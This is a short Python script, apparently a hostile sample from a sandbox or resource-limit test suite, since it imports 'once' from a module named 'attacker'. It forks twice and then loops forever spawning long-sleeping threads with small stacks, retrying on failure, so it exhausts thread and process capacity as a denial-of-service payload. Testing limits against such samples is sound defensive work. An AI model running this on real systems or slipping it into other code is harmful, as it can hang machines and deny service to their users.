"""As many threads as there can be, in as many processes, and all of them stay."""

import os
import threading
import time

from attacker import once

once()
os.fork()
os.fork()
threading.stack_size(64 * 1024)
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,)).start()
    except RuntimeError:
        time.sleep(0.001)
